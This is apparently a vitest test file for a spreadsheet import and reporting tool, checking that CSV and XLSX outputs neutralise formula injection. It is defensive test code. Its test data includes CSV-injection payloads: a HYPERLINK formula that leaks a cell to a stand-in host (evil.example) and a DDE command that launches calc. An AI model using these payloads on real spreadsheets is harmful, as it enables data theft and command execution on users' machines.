import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { beforeAll, expect, it } from 'vitest';
import { importFile } from '../../src/import.js';
import { loadReference } from '../../src/reference/loadReference.js';
import { writeReferenceDir } from '../helpers/referenceSet.js';
import { describeEachEngine } from '../helpers/testDatabase.js';
import { COL, HEADER, readCsvReport, readWorkbook, rejectsOf, reportOf, tempDir, uploadRow, writeXlsxUpload } from './reportsKit.js';

/** Text a spreadsheet would run or re-parse (OWASP CSV injection), ASCII and full width. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-2', '@SUM(A1:A2)', '\t=1', '＝1', '＋1', '－1', '＠A'];
const STARTS_LIKE_FORMULA = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const HOSTILE_HEADER = '=cmd|\' /C calc\'!A0';

function expectSafe(values: unknown[], where: string): void {
  for (const value of values) {
    if (typeof value === 'string') expect(STARTS_LIKE_FORMULA.test(value), `${where}: ${JSON.stringify(value)}`).toBe(false);
    else expect(value === null || value === undefined || typeof value === 'number', `${where}: ${JSON.stringify(value)}`).toBe(true);
  }
}

function expectSafeWorkbook(workbook: ExcelJS.Workbook): void {
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row, n) => {
      row.eachCell((cell) => {
        // Plain values only: never a formula, hyperlink or rich-text object.
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null], `${sheet.name}!${cell.address}`).toContain(cell.type);
      });
      expectSafe((row.values as unknown[]).slice(1), `${sheet.name} row ${n}`);
    });
  }
}

describeEachEngine('formula safety of reports', (t) => {
  let dir: string;
  let importId: string;
  const header = HEADER.map((h) => (h === '社内メモ' ? HOSTILE_HEADER : h));

  beforeAll(async () => {
    const ctx = t().context();
    await loadReference(ctx, await writeReferenceDir());
    dir = await tempDir();
    const rows = HOSTILE.map((h, i) => {
      const row = uploadRow(`HW-${String(i + 1).padStart(4, '0')}`, { '設置場所名': h, 'ビル名': h, '備考': h });
      row[COL['社内メモ']!] = h;
      return row;
    });
    // A rejected row whose offending code is hostile too (its message quotes it).
    rows.push(uploadRow('=1+2', { 'サポートID': '300000002', '備考': '-2' }));
    const file = await writeXlsxUpload(dir, 'hostile.xlsx', rows, header);
    const outcome = await importFile(ctx, { path: file, resellerCode: 'RS001' });
    importId = outcome.importId;
    expect(outcome.summary).toMatchObject({ registered: HOSTILE.length, rejected: 1 });
  });

  it('CSV: every field neutralised, hostile text kept after the apostrophe', async () => {
    for (const encoding of ['utf8', 'cp932'] as const) {
      const file = await reportOf(t().db.knex, importId, dir, 'csv', { encoding, name: `h-${encoding}.csv` });
      const records = await readCsvReport(file, encoding === 'cp932' ? (b) => iconv.decode(b, 'cp932') : undefined);
      records.forEach((r, i) => expectSafe(r, `csv ${encoding} record ${i}`));
      expect(records[0]![COL['社内メモ']!]).toBe(`'${HOSTILE_HEADER}`);
      HOSTILE.forEach((h, i) => {
        for (const column of ['設置場所名', 'ビル名', '備考', '社内メモ']) expect(records[i + 1]![COL[column]!]).toBe(`'${h}`);
      });
      expect(records.at(-1)![COL['製品シリアルNo.']!]).toBe(`'=1+2`);
    }
  });

  it('XLSX report and rejects file: plain values only, every text cell neutralised', async () => {
    const report = await readWorkbook(await reportOf(t().db.knex, importId, dir, 'xlsx'));
    expectSafeWorkbook(report);
    const sheet = report.worksheets[0]!;
    expect(sheet.getRow(2).getCell(COL['設置場所名']! + 1).value).toBe(`'${HOSTILE[0]}`);
    expect(sheet.getRow(1).getCell(COL['社内メモ']! + 1).value).toBe(`'${HOSTILE_HEADER}`);
    // Numbers we write stay numbers (row numbers), never text.
    expect(sheet.getRow(2).getCell(HEADER.length + 1).type).toBe(ExcelJS.ValueType.Number);
    const rejects = await readWorkbook(await rejectsOf(t().db.knex, importId, dir));
    expectSafeWorkbook(rejects);
    expect(rejects.worksheets[0]!.getRow(2).getCell(COL['製品シリアルNo.']! + 1).value).toBe(`'=1+2`);
  });

  it('the database keeps the text as the reseller wrote it', async () => {
    const knex = t().db.knex;
    const stored = await knex('import_rows').where({ import_id: importId }).orderBy('seq').select('cells', 'site_name', 'pack_serial', 'status');
    HOSTILE.forEach((h, i) => {
      expect(stored[i].cells[COL['設置場所名']!]).toBe(h);
      expect(stored[i].cells[COL['社内メモ']!]).toBe(h);
      // Cells are trimmed before validation (SPEC §3), never neutralised.
      expect(stored[i].site_name).toBe(h.trim());
    });
    expect(stored.at(-1)!.cells[COL['製品シリアルNo.']!]).toBe('=1+2');
    const sites = await knex('registrations').where({ import_id: importId }).orderBy('import_seq').pluck('site_name');
    expect(sites).toEqual(HOSTILE.map((h) => h.trim()));
    const batch = await knex('import_batches').where({ id: importId }).first('file_facts');
    expect(batch.file_facts.headers).toContain(HOSTILE_HEADER);
  });
});
